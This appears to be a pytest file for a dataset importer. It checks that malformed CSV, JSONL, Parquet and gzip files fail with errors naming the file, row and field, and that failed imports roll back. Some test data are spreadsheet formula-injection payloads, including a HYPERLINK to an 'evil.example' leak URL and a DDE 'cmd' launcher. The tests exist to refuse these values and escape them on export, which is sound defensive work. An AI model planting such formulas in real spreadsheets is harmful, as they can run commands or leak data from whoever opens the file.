"""A corpus of broken dataset files (tests/data/bad): each must fail with an error that names the
file, the row the user sees and the field; and a failed import must leave the store untouched."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select

from judgeeye.datasets import (
    ColumnMapping,
    DatasetError,
    DatasetValidationError,
    ParsedDataset,
    ParsedItem,
    import_dataset,
    load_builtin,
    read_table,
)
from judgeeye.datasets import importer as importer_mod

BAD = Path(__file__).parent / "data" / "bad"
GOOD = Path(__file__).parent / "data" / "datasets"

PER_ANNOTATOR = ColumnMapping(
    id_column="id",
    text_columns=["text"],
    rating_columns={"rater1": "rater1", "rater2": "rater2"},
    scale_min=1,
    scale_max=5,
)
LABEL = ColumnMapping(
    id_column="id", text_columns=["text"], label_column="label", scale_min=1, scale_max=5
)

# file -> (row, field, words in the message); row/field None where the problem has none
# (the whole file is empty or in another encoding; a JSON line is not JSON at all).
CASES: dict[str, tuple[int | None, str | None, str]] = {
    "latin1.csv": (3, "text", "not UTF-8: byte 0xE9"),
    "latin1.jsonl": (2, "text", "not UTF-8: byte 0xE8"),
    "utf16.csv": (1, None, "UTF-16"),
    "utf16_nobom.csv": (1, None, "not UTF-8"),
    "missing_column.csv": (1, "rater2", "column 'rater2' is missing"),
    "duplicate_header.csv": (1, "rater1", "appears twice in the header"),
    "out_of_scale.csv": (4, "rater2", "rating 7 is outside the scale 1-5"),
    "negative_rating.csv": (2, "rater1", "rating -1 is outside the scale 1-5"),
    "label_out_of_scale.csv": (3, "label", "rating 0 is outside the scale 1-5"),
    "non_numeric.csv": (2, "rater2", "'four' is not a number"),
    "rating_word.jsonl": (1, "rater2", "'high' is not a number"),
    "rating_bool.jsonl": (1, "rater1", "is not a number"),
    "decimal_rating.csv": (3, "rater1", "3.5 is not a whole number"),
    "nan_rating.csv": (2, "rater1", "'NaN' is not a finite number"),
    "inf_rating.csv": (2, "rater2", "'inf' is not a finite number"),
    "duplicate_id.csv": (5, "id", "duplicate id 'x1' (also on row 2)"),
    "empty_id.csv": (3, "id", "the id is empty"),
    "empty_text.csv": (3, "text", "the text is empty"),
    "no_ratings.csv": (3, "rater1, rater2", "no rating at all"),
    "label_empty.csv": (3, "label", "no rating at all"),
    "missing_key.jsonl": (2, "text", "key 'text' is missing"),
    "empty_file.csv": (None, None, "the file is empty"),
    "whitespace_only.csv": (None, None, "the file is empty"),
    "header_only.csv": (1, None, "no data rows"),
    "too_many_fields.csv": (3, None, "5 fields but the header has 4"),
    "short_row.csv": (3, "rater2", "3 fields but the header has 4"),
    "truncated_last_line.csv": (3, None, "never closed"),
    "multiline_error.csv": (6, "rater2", "rating 9 is outside"),  # record after a 3-line text
    "malformed_line.jsonl": (3, None, "malformed JSON"),
    "truncated_last_line.jsonl": (2, None, "the last line is cut off"),
    "not_an_object.jsonl": (2, None, "expected a JSON object"),
    "json_array.jsonl": (1, None, "JSON array, not JSON Lines"),
    "summeval_bad_annotation.jsonl": (1, "expert_annotations[1].coherence", "rating 6 is outside"),
    "prometheus_bad_score.json": (12, "gpt4_score[1]", "rating 7 is outside"),
    "wmt_bad_score.tsv": (3, "score", "'n/a' is not a number"),
    "hanna_wrong_header.csv": (1, "story_id", "not a HANNA file"),
    # spreadsheet formulas where a rating belongs (CSV formula injection): refused as not a number
    "formula_rating.csv": (3, "rater2", "=HYPERLINK(\"http://evil.example/?leak...' is not a number"),
    "formula_cmd.csv": (2, "rater1", "'=cmd|' /C calc'!A0' is not a number"),
    "formula_rating.jsonl": (2, "rater1", "'=1+1' is not a number"),
    "label_formula.csv": (2, "label", "'@SUM(1+1)' is not a number"),
    # a blank line in the middle is skipped, and the rows after it keep their true numbers
    "blank_line_then_bad.csv": (5, "rater2", "rating 9 is outside the scale 1-5"),
    # a Parquet text column written as bytes: decoded as UTF-8, refused where it is not UTF-8
    # (it was imported as the Python repr "b'caf\\xe9 noir'")
    "binary_text.parquet": (2, "text", "not UTF-8: byte 0xE9 cannot be decoded"),
    # JSON ids 1 and 1.0 are the same id "1" (whole-number floats are integers)
    "float_id_duplicate.jsonl": (3, "id", "duplicate id '1' (also on row 1)"),
    # gzip problems were tracebacks (zlib.error, EOFError)
    "corrupt.csv.gz": (None, None, "not a readable gzip file: the compressed data is corrupt"),
    "truncated.csv.gz": (None, None, "not a readable gzip file: it is cut off"),
    "not_gzip.csv.gz": (None, None, "not a gzip file, though its name ends in .gz"),
}

# codebook files for `judgeeye codebook import`: file -> (field named, words); "" = the whole file
CODEBOOK_CASES: dict[str, tuple[str, str]] = {
    "codebook_no_levels.json": ("rubric", "this one has no rating levels"),
    "codebook_missing_rubric.json": ("rubric", "Field required"),
    "codebook_level_off_scale.json": ("rubric", "rubric level(s) 7 outside the scale 1..5"),
    "codebook_malformed.json": ("", "not valid JSON (line 7, column 18)"),
    "codebook_array.json": ("", "expected a JSON object at the top level"),
    # a valid codebook whose scale is not the project's: refused by the import itself
    "codebook_other_scale.json": ("scale_min'/'scale_max", "codebook scale 0-10 differs from the project's 1-5"),
}


def _load(path: Path, **kwargs: Any):  # type: ignore[no-untyped-def]
    name = path.name
    if name.startswith("summeval"):
        return load_builtin("summeval", path, "coherence", **kwargs)
    if name.startswith("prometheus"):
        return load_builtin("prometheus", path, "rubric", **kwargs)
    if name.startswith("wmt"):
        return load_builtin("wmt_sqm", path, "quality", **kwargs)
    if name.startswith("hanna"):
        return load_builtin("hanna", path, "complexity", **kwargs)
    return read_table(path, LABEL if name.startswith("label") else PER_ANNOTATOR, **kwargs)


def test_corpus_is_complete() -> None:
    files = {p.name for p in BAD.iterdir() if p.name != "README.md"}
    assert files == set(CASES) | set(CODEBOOK_CASES)
    assert len(files) >= 30


@pytest.mark.parametrize("name", sorted(CASES))
def test_bad_file_names_file_row_and_field(name: str) -> None:
    row, field, words = CASES[name]
    with pytest.raises(DatasetError) as exc:
        _load(BAD / name)
    err = exc.value.errors[0]
    assert (err.row, err.field) == (row, field), str(exc.value)
    assert words in err.message
    assert Path(err.file).name == name
    rendered = str(exc.value)
    assert name in rendered
    if row is not None:
        assert f"row {row}" in rendered
    if field is not None:
        assert f"field '{field}'" in rendered


def _cli_import(path: Path):  # type: ignore[no-untyped-def]
    from typer.testing import CliRunner

    from judgeeye.cli import app

    return CliRunner().invoke(app, ["import", str(path), "--id-column", "id", "--text", "text", "--rater", "rater1",
                                    "--rater", "rater2", "--scale", "1-5", "--project", "bad"])


@pytest.mark.parametrize("name", ["binary_text.parquet", "float_id_duplicate.jsonl", "corrupt.csv.gz",
                                  "truncated.csv.gz", "not_gzip.csv.gz", "symlink_loop.csv"])
def test_cli_refuses_unreadable_files_with_exit_2_and_writes_nothing(
        name: str, store_url: str, tmp_path: Path) -> None:
    """Each of these ended in a traceback or imported garbage; now: one clear message naming the
    file (and row and field where there is one), exit status 2, and the store as it was."""
    if name == "symlink_loop.csv":  # made here: a link loop in the repository would trip up tools
        path = tmp_path / name
        (tmp_path / "other.csv").symlink_to(path)
        path.symlink_to(tmp_path / "other.csv")
        row, field, words = None, None, "symbolic link that leads (through other links) back to itself"
    else:
        path = BAD / name
        row, field, words = CASES[name]
    result = _cli_import(path)
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    assert f"{name}" in result.output and words in result.output
    if row is not None:
        assert f"row {row}, field '{field}'" in result.output
    assert _counts(store_url) == (0, 0)


def test_parquet_bytes_and_whole_number_float_ids_import_as_text(tmp_path: Path) -> None:
    """UTF-8 bytes are text (not "b'caf\\xc3\\xa9'"); float ids 1.0 are "1" (pandas writes an int
    column with a gap as float64); other floats keep their exact form ("2.5")."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    path = tmp_path / "bytes.parquet"
    pq.write_table(pa.table({
        "id": pa.array([1.0, 2.5, 3.0, float(2**53)]),
        "text": pa.array(["café".encode(), b"plain", b"tea", b"x"], pa.binary()),
        "rater1": [3, 4, 5, 1], "rater2": [3.0, 4.0, None, 1.0],
    }), path)
    ds = read_table(path, PER_ANNOTATOR)
    assert [i.external_id for i in ds.items] == ["1", "2.5", "3", "9007199254740992"]
    assert [i.fields["text"] for i in ds.items] == ["café", "plain", "tea", "x"]
    assert ds.items[0].ratings == {"rater1": 3.0, "rater2": 3.0} and ds.items[2].ratings == {"rater1": 5.0}
    lines = tmp_path / "floats.jsonl"
    lines.write_text('{"id": 7.0, "text": "a", "rater1": 3, "rater2": 3}\n'
                     '{"id": "7.0", "text": "b", "rater1": 3, "rater2": 3}\n')
    # a float 7.0 is the id "7"; the text "7.0" is kept as written
    assert [i.external_id for i in read_table(lines, PER_ANNOTATOR).items] == ["7", "7.0"]


def test_every_bad_row_is_reported() -> None:
    with pytest.raises(DatasetValidationError) as exc:
        read_table(BAD / "inf_rating.csv", PER_ANNOTATOR)
    assert [(e.row, e.field) for e in exc.value.errors] == [(2, "rater2"), (3, "rater1")]
    assert len(str(exc.value).splitlines()) == 3


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_enormous_line(tmp_path: Path, fmt: str) -> None:
    """A 3 MB text in one cell: reported (not a crash, not csv's 128 KiB field limit)."""
    huge = "word " * 600_000
    path = tmp_path / f"enormous.{fmt}"
    if fmt == "csv":
        path.write_text(f"id,text,rater1,rater2\nx1,short,3,4\nx2,{huge},3,4\n")
    else:
        path.write_text(
            json.dumps({"id": "x1", "text": "short", "rater1": 3, "rater2": 4}) + "\n"
            + json.dumps({"id": "x2", "text": huge, "rater1": 3, "rater2": 4}) + "\n"
        )
    with pytest.raises(DatasetValidationError) as exc:
        read_table(path, PER_ANNOTATOR)
    err = exc.value.errors[0]
    assert (err.row, err.field) == (3 if fmt == "csv" else 2, "text")
    assert "3,000,000 characters" in err.message and "limit" in err.message
    # a raised limit accepts it
    ds = read_table(path, PER_ANNOTATOR, max_field_chars=4_000_000)
    assert len(ds.items[1].fields["text"]) == 3_000_000


def test_bom_file_is_accepted() -> None:
    ds = read_table(GOOD / "generic_bom.csv", LABEL)
    assert ds.items[0].external_id == "b1" and ds.items[0].fields["text"] == "Café au lait"


def test_extra_columns_are_accepted() -> None:
    ds = read_table(GOOD / "generic_extra_columns.csv", PER_ANNOTATOR)
    assert len(ds) == 4 and ds.meta["ignored_columns"] == ["notes", "unused_score"]


# --------------------------------------------------------------------------- nothing is written


def _counts(url: str) -> tuple[int, int]:
    from judgeeye.store import Item, Project, session_scope

    with session_scope(url) as s:
        return s.scalar(select(func.count(Project.id))), s.scalar(select(func.count(Item.id)))


def test_failed_imports_leave_the_database_unchanged(
    store_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from sqlalchemy.exc import IntegrityError

    from judgeeye.store import session_scope

    with session_scope(store_url) as s:
        import_dataset(s, read_table(GOOD / "generic_extra_columns.csv", PER_ANNOTATOR),
                       project_name="existing")
    before = _counts(store_url)
    assert before == (1, 4)

    # 1. a bad file: validation fails before anything is written
    with pytest.raises(DatasetValidationError), session_scope(store_url) as s:
        import_dataset(s, read_table(BAD / "out_of_scale.csv", PER_ANNOTATOR), project_name="new")
    assert _counts(store_url) == before

    # 2. a name that is taken
    with pytest.raises(DatasetError), session_scope(store_url) as s:
        import_dataset(s, read_table(GOOD / "generic.jsonl", ColumnMapping(
            id_column="id", text_columns=["text"], rating_columns={"a": "r1", "b": "r2"},
            scale_min=1, scale_max=5)), project_name="existing")
    assert _counts(store_url) == before

    # 3. a failure in the middle of writing: the project row and the first item batches are
    #    already in the transaction when the database rejects a later batch; all is rolled back.
    monkeypatch.setattr(importer_mod, "BATCH_SIZE", 2)
    monkeypatch.setattr(importer_mod, "_check_items", lambda ds: None)
    items = [ParsedItem(f"id{i}", {"text": "t"}, {"a": 3.0}) for i in range(6)]
    items.append(ParsedItem("id0", {"text": "t"}, {}))  # unrated (no split); id violates uniqueness
    ds = ParsedDataset("x.csv", "generic", "t", "d", "text", 1, 5, ["text"], items, "per_annotator")
    with pytest.raises(IntegrityError), session_scope(store_url) as s:
        import_dataset(s, ds, project_name="half-written")
    assert _counts(store_url) == before


# --------------------------------------------------------------------------- codebook files


@pytest.mark.parametrize("name", sorted(CODEBOOK_CASES))
def test_bad_codebook_file_is_refused_naming_file_and_field(name: str, store_url: str) -> None:
    """`judgeeye codebook import` refuses it with the file and the field named; no version is added."""
    from typer.testing import CliRunner

    from judgeeye.cli import app
    from judgeeye.codebook import load_codebook_file
    from judgeeye.projects import ensure_sample_project
    from judgeeye.store import Codebook, session_scope

    field, words = CODEBOOK_CASES[name]
    if name != "codebook_other_scale.json":
        with pytest.raises(ValueError) as exc:
            load_codebook_file(BAD / name)
        assert name in str(exc.value) and words in str(exc.value)
        if field:
            assert f"field '{field}'" in str(exc.value)
    project_id = ensure_sample_project()
    with session_scope() as s:
        before = s.scalar(select(func.count(Codebook.id)))
    result = CliRunner().invoke(app, ["codebook", "import", "--project", str(project_id), str(BAD / name)])
    assert result.exit_code == 2, result.output
    assert name in result.output and words in result.output
    if field:
        assert f"field '{field}'" in result.output
    with session_scope() as s:
        assert s.scalar(select(func.count(Codebook.id))) == before


# --------------------------------------------------------------------------- formulas in text


FORMULA_TEXTS = ['=HYPERLINK("http://evil.example","click")', "@SUM(1+1)", "+1+1 plus", "-2 minus",
                 "=cmd|' /C calc'!A0", "\t=1+1 after a tab"]


def test_formula_looking_text_is_content_imported_as_is_and_escaped_in_csv_exports(
        store_url: str, tmp_path: Path) -> None:
    """A text field that looks like a formula is legitimate content: imported verbatim; every
    CSV export then shows it as text (a leading apostrophe), never as a formula."""
    import csv as csv_mod

    from judgeeye.auth import Actor
    from judgeeye.engines import EngineConfig
    from judgeeye.projects import import_with_codebook
    from judgeeye.review import export_reasoning
    from judgeeye.sampling import SamplingSettings
    from judgeeye.sampling.runs import create_run
    from judgeeye.spreadsheet import FORMULA_START
    from judgeeye.store import Candidate, Item, session_scope

    path = tmp_path / "formulas.csv"
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv_mod.writer(fh)
        writer.writerow(["id", "text", "rater1", "rater2"])
        for i, text in enumerate(FORMULA_TEXTS):
            writer.writerow([f"=id{i}" if i == 0 else f"id{i}", text, 3, 3])
    with session_scope() as s:
        project_id = import_with_codebook(s, read_table(path, PER_ANNOTATOR), actor=Actor.system(),
                                          project_name="formulas").project_id
    with session_scope() as s:
        items = s.scalars(select(Item).where(Item.project_id == project_id).order_by(Item.id)).all()
        assert [i.fields["text"] for i in items] == FORMULA_TEXTS  # stored exactly as written
        run = create_run(s, project_id, EngineConfig(), SamplingSettings(k=1))
        for item in items:
            s.add(Candidate(run_id=run.id, item_id=item.id, target="gold", target_label=item.gold, sample_index=0,
                            reasoning="", answer=f"=SUM(A1:A9) and more\n\n<rating>3</rating>", predicted=3.0,
                            parse_ok=True, accepted=True, completion_tokens=5, finish_reason="stop"))
    out = tmp_path / "export"
    with session_scope() as s:
        summary = export_reasoning(s, Actor.system(), project_id, out, ["csv", "jsonl"])
    with open(summary.files["csv"], newline="", encoding="utf-8") as fh:
        rows = list(csv_mod.reader(fh))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)], "a cell a spreadsheet would run"
    texts = [row[rows[0].index("field:text")] for row in rows[1:]]
    assert texts == ["'" + t for t in FORMULA_TEXTS]  # shown as text, nothing lost
    assert rows[1][1] == "'=id0"
    # JSONL is data, not a spreadsheet: the texts stay as they are
    lines = [json.loads(x) for x in Path(summary.files["jsonl"]).read_text().splitlines()]
    assert [x["fields"]["text"] for x in lines] == FORMULA_TEXTS


@pytest.mark.parametrize("cell, escaped", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("\uff1d1+1", "'\uff1d1+1"), ("plain", "plain"), ("", ""), (" =1", " =1"), (-1, -1), (2.5, 2.5), (None, None),
])
def test_spreadsheet_safe(cell: object, escaped: object) -> None:
    from judgeeye.spreadsheet import csv_text, spreadsheet_safe

    assert spreadsheet_safe(cell) == escaped
    import csv as csv_mod
    import io

    rows = list(csv_mod.reader(io.StringIO(csv_text(["h"], [[cell]]), newline="")))
    assert rows == [["h"], ["" if escaped is None else str(escaped)]]
